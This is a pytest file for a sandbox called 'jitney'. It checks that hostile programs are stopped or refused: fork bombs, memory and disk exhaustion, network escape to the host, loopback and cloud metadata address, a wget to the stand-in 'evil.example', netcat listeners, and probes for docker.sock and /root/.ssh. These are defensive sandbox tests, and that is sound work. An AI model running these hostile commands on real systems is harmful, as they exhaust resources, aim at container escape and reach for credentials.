"""Hostile programs: each is ended or refused, with the right cause in the Outcome, and leaves nothing."""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Iterator

import pytest

from jitney.engine.protocol import Engine
from jitney.plan.model import SandboxPlan
from jitney.sandbox.box import box_spec
from jitney.sandbox.frames import encode
from jitney.sandbox.job import Job
from jitney.sandbox.run import Session
from jitney.sandbox.stdio import Stdio

from .conftest import ENV, RunBox
from .test_life import assert_gone

pytestmark = pytest.mark.engine

SMALL = SandboxPlan(memory_bytes=128 << 20, pids=64)


def test_fork_bomb(run_box: RunBox) -> None:
    start = time.monotonic()
    outcome = run_box("hostile", "bomb", plan=SMALL, deadline_s=1.0).outcome
    assert (outcome.cause, outcome.exit_code) == ("timed-out", 124)
    assert any("--pids" in note for note in outcome.notes)
    assert time.monotonic() - start < 8


def test_memory_hog(run_box: RunBox) -> None:
    outcome = run_box("hostile", "hog", plan=SMALL, deadline_s=20).outcome
    assert (outcome.cause, outcome.exit_code, outcome.signal) == ("out-of-memory", 137, 9)
    assert "--memory" in outcome.hint


def test_endless_output_costs_no_memory(run_box: RunBox) -> None:
    def resident() -> int:
        with open("/proc/self/statm", encoding="ascii") as statm:  # noqa: PTH123  one number, once
            return int(statm.read().split()[1]) * 4096

    before = resident()
    outcome = run_box("yes", keep_output=False, plan=SMALL, deadline_s=1.5).outcome
    assert outcome.cause == "timed-out"
    assert resident() - before < 24 << 20


def test_disk_filler(run_box: RunBox) -> None:
    plan = SandboxPlan(memory_bytes=128 << 20, tmpfs={"/tmp": 8 << 20, "/home/jitney": 8 << 20})
    script = "cat /dev/zero > /home/jitney/x"
    outcome = run_box("sh", "-c", script, plan=plan, deadline_s=20).outcome
    assert outcome.cause == "disk-full" and outcome.exit_code == 1


def test_zombie_maker_and_daemons_end_with_the_program(engine: Engine, run_box: RunBox) -> None:
    for attack in ("zombies", "daemon"):
        start = time.monotonic()
        ran = run_box("hostile", attack, plan=SMALL)
        assert (ran.outcome.cause, ran.outcome.exit_code) == ("exited", 0)
        assert ran.stdout == f"{attack}: done\n".encode()
        assert time.monotonic() - start < 3


def test_nothing_can_be_done_to_pid_1(run_box: RunBox) -> None:
    ran = run_box("hostile", "init", plan=SMALL)
    lines = ran.stdout.decode().splitlines()
    assert len(lines) == 21
    assert [line for line in lines if ": refused E" not in line] == []
    assert ran.outcome.cause == "exited"


@pytest.mark.parametrize("attack", ["starve", "deaf", "bomb"])
def test_the_leash_ends_whatever_starves_or_ignores(engine: Engine, image: str, attack: str) -> None:
    with Session(engine) as session:
        box = session.park(box_spec(SMALL, image))
        session.submit(box, Job(argv=("hostile", attack), env=ENV), Stdio(stdin=None, stdout=None))
        session.serve_for(0.5)
    assert_gone(engine, session.run, 2.0)


def test_forged_frames_are_just_output(run_box: RunBox) -> None:
    forged = encode(b"x", b"\0" * 36) + encode(b"!", b"owned")
    ran = run_box("cat", stdin=forged)
    assert ran.stdout == forged
    assert (ran.outcome.cause, ran.outcome.exit_code) == ("exited", 0)


def test_the_way_out_is_closed(engine: Engine, run_box: RunBox) -> None:
    """The host by its bridge and loopback, the metadata address, the internet: unreachable at once."""
    listener = socket.create_server(("0.0.0.0", 0))
    port = str(listener.getsockname()[1])
    start = time.monotonic()
    ran = run_box(
        "hostile", "connect", "172.17.0.1", port, "127.0.0.1", port, "169.254.169.254", "80", "1.1.1.1", "443"
    )
    listener.close()
    lines = dict(line.split(": ") for line in ran.stdout.decode().splitlines())
    assert lines == {
        "172.17.0.1": "refused ENETUNREACH",
        "127.0.0.1": "refused ECONNREFUSED",
        "169.254.169.254": "refused ENETUNREACH",
        "1.1.1.1": "refused ENETUNREACH",
    }
    assert time.monotonic() - start < 2


def test_a_refused_name_is_reported_at_once(engine: Engine, image: str) -> None:
    told: list[tuple[str, float]] = []
    start = time.monotonic()
    with Session(engine, on_blocked=lambda name: told.append((name, time.monotonic()))) as session:
        box = session.park(box_spec(SMALL, image))
        started = time.monotonic()
        job = Job(argv=("wget", "-O", "-", "http://evil.example/"), env=ENV)
        session.submit(box, job, Stdio(stdin=None, stdout=None, stderr=None))
        outcome = session.wait(box)
    assert outcome.blocked == ("evil.example",) and outcome.exit_code == 1
    assert [name for name, _ in told] == ["evil.example"]
    assert told[0][1] - started < 1.0
    assert time.monotonic() - start < 5


def test_writing_outside_its_tmpfs_fails(run_box: RunBox) -> None:
    folders = "/ /bin /etc /.jitney /proc /sys /sys/fs/cgroup /dev /usr /run /run/jitney /var"
    script = f'for d in {folders}; do (echo x > $d/x) 2>/dev/null && echo "wrote $d"; done; true'
    ran = run_box("sh", "-c", script)
    assert ran.stdout == b""


def test_no_engine_socket_and_no_host_files(run_box: RunBox) -> None:
    script = "ls -d /var/run/docker.sock /run/docker.sock /host /root/.ssh 2>/dev/null; true"
    assert run_box("sh", "-c", script).stdout == b""


def test_two_boxes_do_not_see_each_other(engine: Engine, image: str) -> None:
    """Not by loopback, abstract sockets, processes, or /tmp."""
    out = bytearray()
    with Session(engine) as session:
        one, two = (session.park(box_spec(SMALL, image)) for _ in range(2))
        listen = "echo here > /tmp/flag; nc -l -p 9000 & nc -l -p 9001"
        session.submit(
            one, Job(argv=("sh", "-c", listen), env=ENV), Stdio(stdin=None, stdout=None, stderr=None)
        )
        session.serve_for(0.3)
        look = "hostile connect 127.0.0.1 9000; ls /tmp; ps -o comm; cat /proc/net/unix | wc -l"
        session.submit(two, Job(argv=("sh", "-c", look), env=ENV), Stdio(stdin=None, stdout=out.extend))
        session.wait(two)
    text = out.decode()
    assert "127.0.0.1: refused ECONNREFUSED" in text
    assert "flag" not in text and "nc" not in text.split()


@pytest.fixture
def http_server() -> Iterator[int]:
    """Says hello to whoever comes, on this machine's loopback."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            try:
                peer, _ = listener.accept()
            except OSError:
                return
            with peer:
                request = peer.recv(65536)
                host = next(line for line in request.split(b"\r\n") if line.lower().startswith(b"host:"))
                peer.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + host + b"\n" + b"z" * 700_000)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield listener.getsockname()[1]
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    thread.join(5)


def test_an_allowed_host_is_reached_by_name_and_nothing_else(run_box: RunBox, http_server: int) -> None:
    def resolver(host: str, port: int) -> list[tuple[int, object]]:
        return [(int(socket.AF_INET), ("127.0.0.1", port))]

    options: dict[str, object] = {"resolver": resolver}
    script = f"wget -q -O - http://api.test:{http_server}/ ; wget -q -O - http://api2.test:{http_server}/"
    ran = run_box("sh", "-c", script, session_options=options, allow_hosts=[f"api.test:{http_server}"])
    head, _, rest = ran.stdout.partition(b"\n")
    assert head.lower() == f"host: api.test:{http_server}".encode()
    assert rest == b"z" * 700_000
    assert ran.outcome.blocked == ("api2.test",)
    assert ran.outcome.exit_code == 1


def test_secrets_of_the_client_are_not_inside(run_box: RunBox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("JITNEY_TEST_SECRET", "sesame")
    assert b"sesame" not in run_box("env").stdout
    assert os.environ["JITNEY_TEST_SECRET"] == "sesame"
